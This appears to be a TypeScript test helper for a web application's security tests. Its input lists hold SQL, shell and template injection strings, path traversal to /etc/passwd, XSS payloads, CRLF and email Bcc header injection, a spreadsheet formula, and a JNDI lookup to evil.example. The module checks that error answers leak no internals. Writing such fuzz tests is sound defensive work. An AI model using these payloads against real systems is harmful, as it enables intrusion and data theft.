import { once } from 'node:events';
import { connect } from 'node:net';
import { text } from 'node:stream/consumers';
import { type Call, calls, pathOf } from '@studio/contract';
import { expect } from 'vitest';
import type { Answer } from './ask.ts';
import { nowhere } from './nowhere.ts';

/** What is sent where words are asked for: each is a way into some other program. */
export const attacks: readonly string[] = [
  `' or '1'='1`,
  `'; drop table booking; --`,
  `1; select pg_sleep(10)`,
  `\\'; copy (select 1) to program 'id' --`,
  '$(id) `id` | id; id && id',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}} #{7*7} <%= 7*7 %> $t(errors.internal)',
  '\r\nset-cookie: studio-token=x\r\n\r\n<html>',
  'a\0b',
  '\ud800',
  '\u202Egpj.exe',
  '\u001B[2J\u001B]0;owned\u0007',
  "=cmd|' /C calc'!A0",
  '__proto__',
  '$'.concat('{jndi:ldap://evil.example/a}'),
  '-1e309',
  'x'.repeat(5000),
];

/** What is sent in place of words. */
export const otherTypes: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  [],
  ['x'],
  {},
  { $ne: null },
  { equals: 'admin' },
  { __proto__: { role: 'admin' } },
  [[['x']]],
];

/** Names that a mail program could read as an address, a header or a sentence of ours. */
export const hostileNames: readonly string[] = [
  '"Noor" <evil@evil.example>, other@evil.example',
  'evil@evil.example',
  'Sara\r\nBcc: evil@evil.example',
  'Sara\u2028Bcc: evil@evil.example',
  '\u202eelpmaxe.live@arak',
  '=?utf-8?Q?Bcc:_evil=40evil.example?=',
  'a; b: c, (d) <e> "f" \\',
];

/** Addresses that a mail program could read as several. */
export const severalAddresses: readonly string[] = [
  'sara@guest.example\r\nBcc: evil@evil.example',
  'sara@guest.example, evil@evil.example',
  'sara@guest.example;evil@evil.example',
  '"Sara" <evil@evil.example>',
  'sara@guest.example>\r\nRCPT TO:<evil@evil.example',
  'group:evil@evil.example;',
  '"sara evil"@guest.example',
  'sara(evil@evil.example)@guest.example',
];

/** What no stranger is told: where our programs lie, what they are, how they ask the database. */
const inner =
  /node_modules|file:\/\/|\.[jt]sx?:\d+|\bat \w+ \(|drizzle|payload|postgres|\bnext\b|select .* from|insert into|ECONN|ENOENT|\/tmp\/|stack|\bv?\d+\.\d+\.\d+\b/iu;

/** Whether an answer tells who answered: a header that names a program, or a version. */
const tellingHeaders = ['server', 'x-powered-by', 'via', 'x-nextjs-cache'];

/** Expects that an attack is answered in the contract's own words, and tells nothing. */
export function expectComposed(answer: Answer, about: string): void {
  expect(answer.status, `${about}: ${answer.text.slice(0, 200)}`).toBeLessThan(500);
  for (const name of tellingHeaders) expect(answer.headers.get(name), about).toBeNull();
  if (answer.status < 400) return;
  expect(answer.json, about).toMatchObject({ success: false, message: expect.any(String) });
  expect(answer.text, about).not.toMatch(inner);
}

/** The fields of a call's input, as its schema names them. */
export const fieldsOf = ({ input }: Call): string[] => ('entries' in input ? Object.keys(Object(input.entries)) : []);

/** A call in a few words. */
export const named = ({ method, path }: Pick<Call, 'method' | 'path'>): string => `${method} ${path}`;

/** The calls, each with its address and an id that is none of anything. */
export const addressed = calls.map((call) => ({ call, name: named(call), address: pathOf(call, nowhere) }));

/** Sends these bytes over a connection of their own, and gives everything that comes back until the server ends it. */
export async function sendRaw(baseUrl: string, bytes: string | Uint8Array): Promise<string> {
  const { hostname, port } = new URL(baseUrl);
  const socket = connect(Number(port), hostname);
  socket.setTimeout(20_000, () => socket.destroy(new Error('The server neither answers nor ends it')));
  await once(socket, 'connect');
  socket.write(bytes);
  // A server that has ended the connection does not read the rest.
  socket.on('error', () => undefined);
  return text(socket).catch(() => '');
}
